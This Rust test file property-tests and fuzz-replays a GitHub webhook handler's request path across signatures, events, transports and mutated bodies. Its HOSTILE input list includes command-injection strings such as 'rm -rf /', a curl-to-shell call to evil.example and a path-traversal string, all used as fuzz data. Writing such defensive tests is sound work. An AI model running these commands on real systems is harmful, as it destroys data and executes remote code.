//! The webhook's input path under generated requests (stable proptest), and the fuzz corpus
//! replayed as regression cases. The request layout and the checks are the fuzz target's own
//! (`fuzz/src/lib.rs`), so a corpus file is the same request here and there.

#[allow(dead_code)]
#[path = "../../../fuzz/src/lib.rs"]
mod harness;

use std::cell::RefCell;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::LazyLock;
use std::time::Instant;

use harness::{Edit, Event, Input, PUSH_LABEL, ROWS, Signature, Transport, check};
use proptest::collection::vec;
use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};

const DEFAULT_CASES: u32 = 5_000;

fn fuzz_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz")
}

static FIXTURES: LazyLock<Vec<Vec<u8>>> = LazyLock::new(|| {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../testkit/fixtures/github-webhooks");
    let mut bodies: Vec<Vec<u8>> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|ext| ext == "json"))
        .map(|path| std::fs::read(path).unwrap())
        .collect();
    bodies.sort();
    bodies.push(serde_json::to_vec(&*harness::QUEUED).unwrap());
    bodies
});

/// Values that have broken parsers, shells and tag APIs elsewhere.
const HOSTILE: [&str; 14] = [
    "",
    " ",
    "'; rm -rf / #",
    "$(curl evil.example | sh)",
    "`id`",
    "a\nb\r\nc",
    "\u{0}\u{7}\u{1b}[31m",
    "\"quoted\" \\ back",
    "ünïcödé 🚀 ﷽",
    "\u{202e}rtl",
    "../../../etc/passwd",
    "a,b,c",
    "sha256=",
    "18446744073709551616",
];

fn hostile_bytes() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        3 => vec(any::<u8>(), 0..24),
        2 => proptest::sample::select(HOSTILE.to_vec()).prop_map(|s| s.as_bytes().to_vec()),
        2 => "\\PC{0,24}".prop_map(String::into_bytes),
        1 => (0usize..harness::WORDS.len()).prop_map(|i| vec![i as u8]),
    ]
}

fn text() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        2 => proptest::sample::select(vec!["workflow_job", "ping", "push", "WORKFLOW_JOB", "workflow_run", ""])
            .prop_map(|s| s.as_bytes().to_vec()),
        2 => "[0-9a-f]{64}".prop_map(|hex| format!("sha256={hex}").into_bytes()),
        1 => "sha256=[0-9a-fA-Fxz]{0,70}".prop_map(String::into_bytes),
        // For the odd route: the first byte picks the method, the rest is the path.
        1 => proptest::sample::select(vec!["\u{1}/webhook", "\u{0}/webhook", "\u{1}/prod/webhook", "\u{1}/", "\u{1}/webhooks"])
            .prop_map(|s| s.as_bytes().to_vec()),
        2 => hostile_bytes(),
        1 => vec(any::<u8>(), 0..120),
    ]
}

fn edits() -> impl Strategy<Value = Vec<u8>> {
    vec(
        // Kind 9 (one of the words the webhook looks for) and 1 (a string) keep more edited
        // deliveries well-typed, so more of them reach the template and repository checks.
        (
            0..=PUSH_LABEL,
            prop_oneof![3 => Just(9u8), 2 => Just(1u8), 3 => 0u8..10],
            hostile_bytes(),
        )
            .prop_map(|(field, kind, bytes)| Edit { field, kind, bytes }),
        0..4,
    )
    .prop_map(|edits| Edit::encode(&edits))
}

fn raw_body() -> impl Strategy<Value = Vec<u8>> {
    let fixtures = FIXTURES.len();
    prop_oneof![
        3 => (0..fixtures).prop_map(|i| FIXTURES[i].clone()),
        3 => (0..fixtures, any::<prop::sample::Index>(), any::<u8>()).prop_map(|(i, at, byte)| {
            let mut body = FIXTURES[i].clone();
            let at = at.index(body.len());
            body[at] = byte;
            body
        }),
        2 => (0..fixtures, any::<prop::sample::Index>()).prop_map(|(i, at)| {
            let body = &FIXTURES[i];
            body[..at.index(body.len())].to_vec()
        }),
        // Over the 16 KiB limit of the harness's config.
        1 => (0..fixtures).prop_map(|i| FIXTURES[i].repeat(3)),
        2 => vec(any::<u8>(), 0..256),
        1 => "\\PC{0,64}".prop_map(|s| format!("{{\"action\":{s:?}}}").into_bytes()),
    ]
}

fn input() -> impl Strategy<Value = Input> {
    let signature = prop_oneof![
        5 => Just(Signature::Correct),
        1 => Just(Signature::FromText),
        1 => Just(Signature::Absent),
        1 => Just(Signature::OtherSecret),
    ];
    let event = prop_oneof![
        6 => Just(Event::WorkflowJob),
        1 => Just(Event::Ping),
        2 => Just(Event::FromText),
        1 => Just(Event::Absent),
    ];
    let transport = prop_oneof![
        3 => Just(Transport::Answer),
        2 => Just(Transport::ApiGatewayText),
        2 => Just(Transport::ApiGatewayBase64),
        1 => Just(Transport::AnswerOddRoute),
    ];
    let body = prop_oneof![
        3 => edits().prop_map(|body| (true, body)),
        2 => raw_body().prop_map(|body| (false, body)),
    ];
    let delivery = prop_oneof![1 => Just(0u8), 8 => 1u8..255, 1 => Just(255u8)];
    (
        signature,
        event,
        transport,
        body,
        proptest::bool::weighted(0.1),
        delivery,
        text(),
    )
        .prop_map(
            |(signature, event, transport, (json_edits, body), queue_refuses, delivery, text)| Input {
                signature,
                event,
                transport,
                json_edits,
                queue_refuses,
                delivery,
                text,
                body,
            },
        )
}

#[test]
fn every_generated_request_gets_a_documented_row_and_only_signed_ones_are_enqueued() {
    let cases = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(DEFAULT_CASES);
    // No regression files beside the sources: a failure prints its input, which belongs in
    // fuzz/seeds/webhook (replayed below) once fixed.
    let config = Config {
        cases,
        failure_persistence: None,
        ..Config::default()
    };
    let rows = RefCell::new(BTreeMap::<String, usize>::new());
    let started = Instant::now();
    TestRunner::new(config)
        .run(&input(), |input| {
            if let Some(observed) = check(&input) {
                *rows.borrow_mut().entry(observed.decision).or_default() += 1;
            }
            Ok(())
        })
        .unwrap();
    let rows = rows.into_inner();
    println!("{cases} cases in {:.1?}: {rows:?}", started.elapsed());
    for (_, name, _) in ROWS {
        assert!(
            rows.contains_key(name),
            "no generated request reached `{name}`: {rows:?}"
        );
    }
}

fn corpus_files(dir: &Path) -> Vec<PathBuf> {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut files: Vec<PathBuf> = entries
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.is_file())
        .collect();
    files.sort();
    files
}

/// Seed files are named `<row>--<what>`: each must still get its row.
#[test]
fn every_committed_seed_still_gets_the_row_its_name_records() {
    let seeds = corpus_files(&fuzz_dir().join("seeds/webhook"));
    assert!(seeds.len() >= 8, "fuzz/seeds/webhook holds the seed corpus: {seeds:?}");
    for seed in seeds {
        let name = seed.file_name().unwrap().to_string_lossy().into_owned();
        let expected = name.split("--").next().unwrap();
        let observed = check(&Input::from_bytes(&std::fs::read(&seed).unwrap()))
            .unwrap_or_else(|| panic!("{name}: not an API Gateway event"));
        assert_eq!(observed.decision, expected, "{name}");
    }
}

#[test]
fn the_local_fuzz_corpus_replays_without_a_broken_promise() {
    let corpus = corpus_files(&fuzz_dir().join("corpus/webhook"));
    for file in &corpus {
        let input = Input::from_bytes(&std::fs::read(file).unwrap());
        let replay = std::panic::catch_unwind(|| check(&input));
        assert!(replay.is_ok(), "{} breaks a promise: {input:?}", file.display());
    }
    println!("replayed {} corpus files", corpus.len());
}

#[test]
fn an_input_survives_its_byte_layout() {
    let input = Input {
        signature: Signature::OtherSecret,
        event: Event::FromText,
        transport: Transport::ApiGatewayBase64,
        json_edits: true,
        queue_refuses: true,
        delivery: 255,
        text: b"push".to_vec(),
        body: Edit::encode(&[Edit {
            field: 0,
            kind: 1,
            bytes: b"queued".to_vec(),
        }]),
    };
    assert_eq!(Input::from_bytes(&input.to_bytes()), input);
}
